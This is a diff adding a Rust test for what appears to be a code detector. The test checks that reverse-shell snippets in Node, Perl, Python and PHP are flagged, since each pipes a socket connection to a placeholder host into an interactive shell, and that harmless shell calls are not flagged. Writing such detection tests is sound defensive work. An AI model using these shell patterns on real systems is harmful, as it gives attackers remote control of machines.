@@ -467,3 +467,24 @@ fn words_that_are_names_of_functions_are_no_functions() {
         assert!(facts.calls.is_empty() && !facts.dynamic, "{text}");
     }
 }
+
+#[test]
+fn a_shell_that_a_connection_feeds_runs_a_download() {
+    for (language, text) in [
+        (
+            Language::Node,
+            "require('net').connect(9, 'a', function () { this.pipe(cp.spawn('sh', ['-i']).stdin) })",
+        ),
+        (Language::Perl, "$c = IO::Socket::INET->new('a:9'); while (<$c>) { system $_ }"),
+        (Language::Python, "s = socket.socket(); subprocess.call(['/bin/sh', '-i'])"),
+        (Language::Php, "$s = fsockopen('a', 9); exec('sh <&3 >&3');"),
+    ] {
+        assert!(read(language, text).runs_download, "{text}");
+    }
+    for (language, text) in [
+        (Language::Node, "cp.spawn('sh', ['-i'])"),
+        (Language::Python, "s = socket.socket(); subprocess.call(['sh', 'build.sh'])"),
+    ] {
+        assert!(!read(language, text).runs_download, "{text}");
+    }
+}
